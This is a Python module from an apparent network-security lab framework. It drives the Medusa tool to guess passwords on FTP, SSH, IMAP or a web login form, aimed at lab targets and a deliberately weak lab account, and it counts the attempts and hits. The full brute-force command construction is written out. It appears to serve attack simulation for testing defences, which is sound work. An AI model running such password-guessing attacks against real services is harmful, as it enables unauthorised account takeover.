"""Medusa: passwords guessed at FTP, SSH, IMAP or a web form.

Options: `service` (ftp, ssh, imap, form), `users` (the weak account), `tries` (passwords for each user, 40), `tasks`
(2).
"""

from __future__ import annotations

import re

from netwarden.lab.attacks import targets
from netwarden.lab.play import Part, enter
from netwarden.lab.services.accounts import WEAK

PACKAGES = ("medusa",)
_FORM = ["-m", "FORM:login", "-m", "DENY-SIGNAL:Wrong", "-m", "FORM-DATA:post?user=&password="]


def main() -> None:
    part = enter()
    tries = found = 0
    for address in targets.addresses(part):
        ran = part.tool(command(part, address))
        tries += ran.output.count("ACCOUNT CHECK")
        found += len(re.findall(r"ACCOUNT FOUND", ran.output))
    part.report(tries=tries, found=found)


def command(part: Part, address: str) -> list[str]:
    options = part.options
    form = options["service"] == "form"
    words = ["medusa", "-h", address, "-M", "web-form" if form else options["service"]]
    words += ["-t", str(options.get("tasks", 2)), *(_FORM if form else [])]
    words += ["-U", targets.listed("users", list(options.get("users", (WEAK,))))]
    words += ["-P", targets.listed("passwords", targets.passwords(part.rng, options.get("tries", 40)))]
    return words + (["-n", str(options["port"])] if "port" in options else [])


if __name__ == "__main__":
    main()
